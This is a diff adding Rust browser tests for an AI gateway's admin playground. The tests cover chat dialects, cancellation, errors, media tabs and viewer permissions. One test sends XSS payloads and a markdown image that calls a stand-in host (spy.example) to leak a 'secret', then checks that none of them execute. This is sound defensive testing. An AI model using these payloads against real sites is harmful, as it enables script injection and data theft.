@@ -1,0 +1,223 @@
+use fake_gemini::{FakeGemini, Fault, KeyPlan, Script};
+use serde_json::json;
+use testkit::{Gateway, eventually, key};
+use thirtyfour::prelude::*;
+
+use crate::browser::Browser;
+use crate::house::{setup, small};
+
+/// A good key alone, which does what is planned.
+async fn house(plan: KeyPlan) -> (FakeGemini, Gateway) {
+    let google = FakeGemini::start(Script::new().key(key("good"), plan)).await.unwrap();
+    let gateway = setup().google(&google).keys([key("good")]).start().await;
+    (google, gateway)
+}
+
+async fn say(browser: &Browser, text: &str) {
+    browser.fill("#message", text).await;
+    browser.click("#send").await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn each_dialect_is_answered_beside_what_went_over_the_wire() {
+    let (_google, gateway) = house(KeyPlan::Valid).await;
+    let Some(browser) = Browser::signed_in(&gateway).await else { return };
+    browser.go("/admin").await;
+    browser.find("body").await.send_keys("gp").await.unwrap();
+    browser.until_path("/admin/play").await;
+    for (dialect, path) in [
+        ("chat", "POST /v1/chat/completions"),
+        ("responses", "POST /v1/responses"),
+        ("messages", "POST /v1/messages"),
+        ("gemini", "POST /v1beta/models/"),
+    ] {
+        browser.go(&format!("/admin/play?dialect={dialect}")).await;
+        say(&browser, "tell me **something** nice").await;
+        browser.until_text("#says", "Done in").await;
+        browser.until_text(".gb-turn[data-role=assistant] strong", "something").await;
+        browser.until_text("#request-head", path).await;
+        browser.until_text("#request-body", "tell me **something** nice").await;
+        assert!(browser.text("#request-head").await.contains("••••••••"), "{dialect}");
+        browser.until_text("#response-head", "200 OK").await;
+        assert!(browser.count("#frames li").await > 1, "{dialect}");
+        browser.until_text("[data-fact=attempts]", "1").await;
+        browser.until_text("[data-fact=key]", "…").await;
+        browser.examine(&format!("an answer in {dialect}")).await;
+    }
+    let trace = browser.find("[data-testid=why]").await.attr("href").await.unwrap().unwrap();
+    eventually("the request is in the log", || async {
+        browser.go(&trace).await;
+        browser.count("[data-testid=attempt]").await == 1
+    })
+    .await;
+    browser.until_text(".gb-facts", "console (admin)").await;
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_conversation_goes_on_and_its_last_question_is_asked_anew() {
+    let (google, gateway) = house(KeyPlan::Valid).await;
+    let Some(browser) = Browser::signed_in(&gateway).await else { return };
+    browser.go("/admin/play").await;
+    let field = browser.find("#message").await;
+    field.send_keys("first" + (Key::Control + Key::Enter)).await.unwrap();
+    browser.until_count(".gb-turn .gb-prose", 1).await;
+    say(&browser, "second").await;
+    browser.until_count(".gb-turn .gb-prose", 2).await;
+    let asked = || google.received().last().unwrap().body.to_vec();
+    let text = String::from_utf8(asked()).unwrap();
+    assert!(text.contains("first") && text.contains("second"), "{text}");
+
+    field.send_keys("" + Key::Up).await.unwrap();
+    browser.until_count(".gb-turn", 2).await;
+    assert_eq!(field.prop("value").await.unwrap().as_deref(), Some("second"));
+    browser.fill("#message", "third").await;
+    browser.click("#send").await;
+    browser.until_count(".gb-turn .gb-prose", 2).await;
+    let text = String::from_utf8(asked()).unwrap();
+    assert!(text.contains("first") && text.contains("third") && !text.contains("second"), "{text}");
+    browser.click("#clear").await;
+    browser.until_count(".gb-turn", 0).await;
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn escape_ends_the_call_to_google() {
+    let (google, gateway) = house(KeyPlan::Fault(Fault::HangAfterFirstEvent)).await;
+    let Some(browser) = Browser::signed_in(&gateway).await else { return };
+    browser.go("/admin/play").await;
+    say(&browser, "go on for ever").await;
+    eventually("Google answers", || async { google.open_streams() == 1 }).await;
+    browser.find("#frames li").await;
+    browser.examine("while it is answered").await;
+    browser.find("#stop").await.send_keys("" + Key::Escape).await.unwrap();
+    browser.until_text("#says", "Stopped").await;
+    eventually("Google's stream is closed", || async { google.open_streams() == 0 }).await;
+    assert_eq!(google.cancelled(), 1);
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_google_refuses_is_told() {
+    let (_google, gateway) = house(KeyPlan::Valid).await;
+    let Some(browser) = Browser::signed_in(&gateway).await else { return };
+    browser.go("/admin/play?dialect=gemini").await;
+    browser.fill("#model", "no-such-model").await;
+    say(&browser, "hello").await;
+    browser.until_text("#wrong", "no-such-model").await;
+    browser.until_text("[data-fact=status]", "404").await;
+    browser.until_text("#frames", "NOT_FOUND").await;
+    browser.examine("a refusal").await;
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_model_writes_runs_nothing() {
+    let (_google, gateway) = house(KeyPlan::Valid).await;
+    let Some(browser) = Browser::signed_in(&gateway).await else { return };
+    for dialect in ["chat", "responses", "messages", "gemini"] {
+        browser.go(&format!("/admin/play?dialect={dialect}")).await;
+        let payload = "<script>window.hurt=1</script> <img src=x onerror=window.hurt=1> \
+             <svg/onload=window.hurt=1> [a](javascript:window.hurt=1) \
+             ![b](https://spy.example/?c=secret) <iframe srcdoc='<script>parent.hurt=1</script>'>";
+        say(&browser, payload).await;
+        browser.until_text("#says", "Done in").await;
+        browser.until_count(".gb-prose", 1).await;
+        let found = "return document.querySelectorAll('#play :is(script, svg[onload], iframe), \
+             .gb-prose [onerror], .gb-prose [href^=javascript], .gb-prose [src*=spy]').length";
+        assert_eq!(browser.run(found).await, 0, "{dialect}");
+        browser.run("for (const link of document.querySelectorAll('.gb-prose a')) link.target = '_self'").await;
+        browser.click(".gb-prose a").await;
+        assert!(browser.run("return window.hurt ?? null").await.is_null(), "{dialect}");
+    }
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pictures_speech_and_embeddings_are_shown() {
+    let (_google, gateway) = house(KeyPlan::Valid).await;
+    let Some(browser) = Browser::signed_in(&gateway).await else { return };
+    browser.go("/admin/play?tab=image").await;
+    browser.fill("#prompt", "a cat").await;
+    browser.click("#send").await;
+    browser.find("#shown img").await;
+    let drawn = "return document.querySelector('#shown img').naturalWidth > 0";
+    eventually("it is drawn", || async { browser.run(drawn).await == true }).await;
+    assert_eq!(browser.count("#shown a[download]").await, 1);
+    browser.examine("a picture").await;
+
+    browser.go("/admin/play?tab=speech").await;
+    browser.fill("#input", "good morning").await;
+    browser.click("#send").await;
+    browser.find("#shown audio").await;
+    let plays = "const audio = document.querySelector('#shown audio'); \
+         return audio.error === null && audio.duration > 0";
+    eventually("it can be played", || async { browser.run(plays).await == true }).await;
+    browser.examine("speech").await;
+
+    browser.go("/admin/play?tab=embedding").await;
+    browser.fill("#first", "a cat").await;
+    browser.fill("#second", "a dog").await;
+    browser.click("#send").await;
+    browser.until_text("#shown", "Cosine similarity").await;
+    browser.until_text("#shown", "3,072").await;
+    browser.examine("embeddings").await;
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_tab_is_clean_and_a_request_is_shown_before_it_is_sent() {
+    let (google, gateway) = house(KeyPlan::Valid).await;
+    let Some(browser) = Browser::signed_in(&gateway).await else { return };
+    for (width, height) in [(1440, 1000), (390, 844)] {
+        browser.resize(width, height).await;
+        for tab in ["image", "speech", "embedding", "transcription"] {
+            browser.go(&format!("/admin/play?tab={tab}")).await;
+            browser.examine(&format!("{tab} {width}")).await;
+        }
+        browser.go("/admin/play?system=Be+brief").await;
+        browser.fill("#message", "hello").await;
+        browser.click("#preview").await;
+        browser.until_text("#request-body", "Be brief").await;
+        browser.examine(&format!("a request before it is sent {width}")).await;
+    }
+    assert_eq!(google.received().len(), 0);
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn viewers_look_and_do_not_send() {
+    let (google, gateway) = small().await;
+    let Some(browser) = Browser::open(&gateway).await else { return };
+    let made = gateway.run(&["admin", "add", "vic", "--role", "viewer"]).await.ok();
+    browser.go("/admin/login?next=/admin/play").await;
+    browser.fill("#name", "vic").await;
+    browser.fill("#password", made.trim()).await;
+    browser.click("form.gb-door-card button").await;
+    browser.until_path("/admin/play").await;
+    browser.until_count("#send:disabled", 1).await;
+    browser.examine("the playground of a viewer").await;
+    let status = browser
+        .driver
+        .execute_async(
+            "const done = arguments[0]; fetch('/api/admin/play', { method: 'POST', body: '{}', \
+             headers: { 'content-type': 'application/json' } }).then((answer) => done(answer.status))",
+            vec![],
+        )
+        .await
+        .unwrap();
+    assert_eq!(status.json(), &json!(403));
+    assert_eq!(google.received().len(), 0);
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn without_a_key_that_serves_it_says_where_to_get_one() {
+    let gateway = setup().without("API_KEYS").start().await;
+    let Some(browser) = Browser::signed_in(&gateway).await else { return };
+    browser.go("/admin/play").await;
+    browser.find("[data-testid=no-keys]").await;
+    assert_eq!(browser.count("#play").await, 0);
+    browser.examine("the playground without a key").await;
+    browser.close().await;
+}
